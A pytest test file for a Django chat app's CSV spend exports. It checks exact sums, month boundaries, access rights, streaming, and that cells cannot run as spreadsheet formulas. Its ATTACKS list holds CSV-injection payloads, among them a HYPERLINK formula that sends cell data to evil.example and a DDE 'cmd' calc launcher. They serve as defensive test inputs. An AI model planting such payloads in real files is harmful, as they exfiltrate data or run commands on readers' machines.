"""The CSV files: the same sums as the pages, to the nano-dollar, and nothing in them that a spreadsheet would run."""

import csv
import io
import threading
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import httpx2
import pytest
from django.contrib.auth.models import Group
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st

from chat import audit, exports, reports, spend
from chat.models import Budget, LedgerEntry, UsageRecord, User
from chat.money import dollars, nano
from chat.periods import window
from chat.pricing import Usage
from tests.books import COST, admit, few, paris, spent_call, undone

pytestmark = pytest.mark.django_db

OWN, PEOPLE, CALLS, LEDGER = (
    "/spend/calls.csv",
    "/admin/spend/people.csv",
    "/admin/spend/calls.csv",
    "/admin/spend/ledger.csv",
)
ADMINS = [PEOPLE, CALLS, LEDGER]
ATTACKS = [
    '=HYPERLINK("https://evil.example/?" & A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    " =1+1",
    "＝1+1",
    '",=1+1,"',
]


def rows_of(client, path: str, **query) -> list[dict[str, str]]:
    response = client.get(path, query)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.getvalue().decode(), newline="")))


def summed(rows, column: str = "cost_dollars") -> Decimal:
    return sum((Decimal(row[column]) for row in rows), Decimal(0))


# --- The same sums everywhere


THIS, NEXT = window("month", timezone.now())
INSTANT = timedelta(microseconds=1)
CALL = st.tuples(
    st.integers(0, 2),
    # Both sides of midnight in Paris on the first and the last day, and of midnight in Greenwich.
    st.sampled_from([THIS - INSTANT, THIS, THIS + timedelta(hours=1), NEXT - timedelta(hours=1), NEXT - INSTANT, NEXT]),
    st.sampled_from(["exact", "estimated", "void", "dearer", "cheaper", "written off"]),
    st.integers(1, 100),
    st.integers(1, 1_000),
)


@settings(few, max_examples=15)
@given(calls=st.lists(CALL, max_size=15), leaves=st.sampled_from([None, 0, 2]), loses_chat=st.sampled_from([None, 1]))
def test_one_s_own_page_the_admin_s_page_and_every_file_have_the_same_sum(
    calls, leaves, loses_chat, clock, browse, ada, alice, bob
):
    with undone():
        people = [User.objects.get(pk=alice.pk), User.objects.get(pk=bob.pk), User.objects.create_user("carol")]
        team = Group.objects.create(name="Research")
        Budget.objects.create(kind=Budget.Kind.POT, group=team, limit=nano("100"))
        people[0].groups.add(team)
        people[1].groups.add(team, Group.objects.create(name="Second"))
        chats = [person.conversations.create(model="claude-sonnet-5-5") for person in people]
        accounts = [f"user:{person.pk}" for person in people]
        spent: dict = defaultdict(int)
        for whose, moment, outcome, tokens_in, tokens_out in calls:
            clock(moment)
            record = admit(people[whose], conversation_id=chats[whose].id)
            cost = _end(record, outcome, Usage(input=tokens_in, output=tokens_out), ada)
            spent[whose, f"{moment.astimezone(THIS.tzinfo):%Y-%m}"] += cost
        if loses_chat is not None:
            chats[loses_chat].delete()
        if leaves is not None:
            people[leaves].delete()
        admin = browse(ada)

        for month in {month for _, month in spent} | {f"{THIS:%Y-%m}"}:
            people_rows = {row["person"]: row for row in rows_of(admin, PEOPLE, month=month)}
            call_rows, entries = rows_of(admin, CALLS, month=month), rows_of(admin, LEDGER, month=month)
            for whose, name in enumerate(["alice", "bob", "carol"]):
                exact = dollars(spent[whose, month])
                shown = name if whose != leaves else reports.LEFT
                row = people_rows.get(shown, {"spent_dollars": "0"})
                assert Decimal(row["spent_dollars"]) == exact
                assert summed(r for r in call_rows if r["person"] == shown) == exact
                assert _booked(entries, accounts[whose]) == exact
                if whose != leaves:
                    assert summed(rows_of(browse(people[whose]), OWN, month=month)) == exact
            total = dollars(sum(cost for (_, when), cost in spent.items() if when == month))
            assert summed(call_rows) == summed(people_rows.values(), "spent_dollars") == total
        this_month = f"{THIS:%Y-%m}"
        page = admin.get("/admin/spend/").context
        assert page["totals"]["spent"] == sum(cost for (_, when), cost in spent.items() if when == this_month)
        for whose, person in enumerate(people):
            if whose != leaves:
                [shown] = [p for p in browse(person).get("/spend/").context["periods"] if p["label"] == "This month"]
                assert shown["spent"] == spent[whose, this_month]
        assert audit.problems() == []


def _end(record: UsageRecord, outcome: str, used: Usage, ada: User) -> int:
    """End a call in one of many ways; what it costs in the end, from its own prices."""
    if outcome == "void":
        spend.void(record)
        return 0
    cost = used.input * 2_000 + used.output * 10_000
    spend.settle(record, used, exact=outcome != "estimated")
    change = {"dearer": 1, "cheaper": -1, "written off": -cost}.get(outcome, 0)
    if change:
        spend.adjust(record, change, actor=ada, reason="The invoice says so")
    return cost + change


def _booked(entries: list[dict], account: str) -> Decimal:
    mine = [row for row in entries if (row["account"], row["period"]) == (account, "month")]
    return summed((row for row in mine if row["kind"] in ("charge", "adjust")), "amount_dollars")


def test_an_amount_in_a_file_is_exact_to_the_nano_dollar(alice, ada, browse):
    record = spent_call(alice)
    spend.adjust(record, 1, actor=ada, reason="A rounding of theirs")

    [row] = rows_of(browse(alice), OWN)

    assert row["cost_dollars"] == f"{Decimal(COST + 1) / 10**9:.9f}" == "0.002100001"


def test_what_is_not_settled_is_in_the_file_and_costs_nothing(alice, browse):
    spend.void(admit(alice))
    running = admit(alice)

    rows = rows_of(browse(alice), OWN)

    assert [(row["state"], row["cost_dollars"]) for row in rows] == [("void", "0.000000000"), ("sent", "0.000000000")]
    spend.void(running)


def test_no_file_has_a_row_of_sums(alice, ada, browse):
    spent_call(alice)

    assert [row["person"] for row in rows_of(browse(ada), PEOPLE)] == ["ada", "alice"]
    for path in (OWN, CALLS):
        assert len(rows_of(browse(ada if path == CALLS else alice), path)) == 1
    assert len(rows_of(browse(ada), LEDGER)) == LedgerEntry.objects.count() == 3


def test_somebody_who_left_is_in_the_files_without_a_name(alice, ada, browse):
    spent_call(alice)
    alice.delete()

    admin = browse(ada)

    assert {row["person"]: row["spent_dollars"] for row in rows_of(admin, PEOPLE)} == {
        "ada": "0.000000000",
        "People who left": "0.002100000",
    }
    assert {row["person"] for path in (CALLS, LEDGER) for row in rows_of(admin, path)} == {"People who left"}


# --- Which rows


def test_without_a_month_it_is_this_one(alice, browse, clock):
    clock(THIS - INSTANT)
    spent_call(alice)
    clock(THIS)
    spent_call(alice)

    response = browse(alice).get(OWN)

    assert response["Content-Disposition"] == f'attachment; filename="tally-my-calls-{THIS:%Y-%m}.csv"'
    assert len(response.getvalue().splitlines()) == 2


def test_a_month_begins_at_midnight_in_paris(alice, browse, clock):
    first, next_first = paris(2026, 11, 1), paris(2026, 12, 1)
    for moment in (first - INSTANT, first, next_first - timedelta(minutes=1), next_first):
        clock(moment)
        spent_call(alice)

    rows = rows_of(browse(alice), OWN, month="2026-11")

    assert [row["admitted_at"] for row in rows] == ["2026-11-01T00:00:00.000+01:00", "2026-11-30T23:59:00.000+01:00"]


@pytest.mark.parametrize("month", ["", "2026-13", "2026-00", "0001-01", "9999-12", "11/2026", "2026-11\n", "٢٠٢٦-11"])
@pytest.mark.parametrize("path", [OWN, *ADMINS])
def test_a_month_that_is_none_is_refused(path, month, browse, ada):
    assert browse(ada).get(path, {"month": month}).status_code == 400


def test_nobody_s_own_file_has_a_call_of_somebody_else(alice, bob, browse):
    spent_call(alice)

    for query in ({}, {"user": alice.pk}, {"user": "alice"}, {"user_id": alice.pk}):
        assert rows_of(browse(bob), OWN, **query) == []


def test_every_row_comes_once_and_in_order_however_many_are_fetched_at_once(alice, browse, ada, clock, monkeypatch):
    moments = [paris(2026, 11, 5, hour) for hour in (1, 2, 2, 2, 2, 3, 4)]
    for moment in moments:
        clock(moment)
        spent_call(alice)
    expected = [rows_of(browse(ada), path, month="2026-11") for path in (CALLS, LEDGER)]

    for at_once in (1, 2, 3, 7):
        monkeypatch.setattr(exports, "ROWS_AT_ONCE", at_once)
        assert [rows_of(browse(ada), path, month="2026-11") for path in (CALLS, LEDGER)] == expected

    assert len({row["call"] for row in expected[0]}) == len(moments)
    assert [row["admitted_at"] for row in expected[0]] == sorted(row["admitted_at"] for row in expected[0])
    assert len({row["entry"] for row in expected[1]}) == LedgerEntry.objects.count()


def test_an_entry_is_in_the_month_of_its_period_also_when_it_is_written_later(alice, ada, browse, clock):
    clock(THIS - INSTANT)
    record = spent_call(alice)
    spend.adjust(record, -COST, actor=ada, reason="Not on the invoice")

    last, this = (rows_of(browse(ada), LEDGER, month=f"{start:%Y-%m}") for start in (THIS - INSTANT, THIS))

    assert (summed(last, "amount_dollars"), this) == (0, [])


# --- What a spreadsheet makes of it


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_name_a_title_and_a_reason_cannot_be_a_formula(attack, alice, ada, browse):
    """S40."""
    team = Group.objects.create(name=attack)
    User.objects.filter(pk=alice.pk).update(username=attack, first_name=attack)
    alice.groups.add(team)
    chat = alice.conversations.create(model="claude-sonnet-5-5", title=attack)
    record = spent_call(alice, conversation_id=chat.id)
    spend.adjust(record, -1, actor=ada, reason=attack)

    files = {path: rows_of(browse(ada), path) for path in ADMINS} | {OWN: rows_of(browse(alice), OWN)}

    attacked = [cell for rows in files.values() for row in rows for cell in row.values() if attack in cell]
    safe = attack if attack.startswith('"') else f"'{attack}"
    # Name and full name (which is trimmed); name and team; the name in each of four entries, and the reason; the title.
    assert len(attacked) == 2 + 2 + 5 + 1 - (attack != attack.strip())
    assert set(attacked) == {safe}


@pytest.mark.parametrize("text", ["\t=1", "\r=1", "\n=1", "\0=1", "\xa0=1", "＋1", "－1", "＠a"])
def test_white_space_before_a_formula_does_not_help_it(text):
    assert exports.cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Alice", "a=b", "1+1", "3-4", "a@example.org", "'quoted'"])
def test_text_that_is_no_formula_stays_as_it_is(text):
    assert exports.cell(text) == text


@given(st.integers(-(2**63), 2**63 - 1))
def test_an_amount_is_always_a_number_that_says_exactly_that(amount):
    written = exports.cell(dollars(amount))

    assert set(written) <= set("-.0123456789")
    assert Decimal(written) * 10**9 == amount


def test_a_correction_downwards_stays_a_number(alice, ada, browse):
    record = spent_call(alice)
    spend.adjust(record, -100_000, actor=ada, reason="Too much")

    amounts = [row["amount_dollars"] for row in rows_of(browse(ada), LEDGER) if row["kind"] == "adjust"]

    assert amounts == ["-0.000100000"]


@pytest.mark.parametrize("path", [OWN, *ADMINS])
def test_a_file_is_a_quoted_download_that_no_cache_keeps(path, alice, ada, browse):
    spent_call(ada)

    response = browse(ada).get(path)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="tally-')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    for line in response.getvalue().decode().splitlines():
        assert (line[0], line[-1], line.count('","')) == ('"', '"', line.count(","))


# --- Who may have which


@pytest.mark.parametrize(
    ("right", "opened"), [("view_usagerecord", {PEOPLE, CALLS}), ("view_ledgerentry", {LEDGER}), ("view_price", set())]
)
def test_each_right_opens_its_own_files(right, opened, clerk, browse):
    client = browse(clerk(right))

    statuses = {path: client.get(path).status_code for path in ADMINS}

    assert statuses == {path: 200 if path in opened else 403 for path in ADMINS}


def test_the_admin_s_files_have_no_titles_and_no_chats(alice, ada, browse):
    chat = alice.conversations.create(model="claude-sonnet-5-5", title="canary-of-the-title")
    spent_call(alice, conversation_id=chat.id)

    files = [browse(ada).get(path).getvalue().decode() for path in ADMINS]

    assert all("canary" not in file and str(chat.id) not in file for file in files)
    assert "canary-of-the-title" in browse(alice).get(OWN).getvalue().decode()


def test_one_s_own_file_says_which_chats_are_gone_and_which_have_no_title(alice, browse):
    nameless, gone = (alice.conversations.create(model="claude-sonnet-5-5") for _ in range(2))
    for chat in (nameless, gone):
        spent_call(alice, conversation_id=chat.id)
    gone.delete()

    rows = rows_of(browse(alice), OWN)

    assert [row["title"] for row in rows] == ["New conversation", "Deleted conversation"]


# --- Over the wire


@pytest.mark.django_db(transaction=True)
def test_a_file_is_sent_while_it_is_made(alice, ada, browse, site, monkeypatch):
    """A large month would otherwise be in memory as a whole, for each reader."""
    monkeypatch.setattr(exports, "ROWS_AT_ONCE", 1)
    for _ in range(3):
        spent_call(alice)
    made, go_on, chunks = [], threading.Event(), exports._calls

    def counted(*args):
        for chunk in chunks(*args):
            assert go_on.wait(20)
            made.append(chunk)
            yield chunk

    monkeypatch.setattr(exports, "_calls", counted)
    cookie = {"Cookie": f"sessionid={browse(ada).cookies['sessionid'].value}"}
    with httpx2.stream("GET", f"{site}{CALLS}", headers=cookie) as response:
        parts = response.iter_bytes()
        first = next(parts)
        before = len(made)
        go_on.set()
        rest = b"".join(parts)

    assert (before, len(made)) == (0, 3)
    rows = list(csv.DictReader(io.StringIO((first + rest).decode(), newline="")))
    assert summed(rows) == dollars(3 * COST)


def test_moments_are_written_with_their_offset():
    assert exports.cell(datetime(2026, 7, 1, 22, 0, tzinfo=UTC)) == "2026-07-02T00:00:00.000+02:00"


def test_a_file_of_a_month_without_calls_has_its_headings(browse, alice):
    response = browse(alice).get(OWN, {"month": "2020-01"})

    assert response.getvalue().decode().strip() == ",".join(f'"{heading}"' for heading in exports.OWN_CALLS)
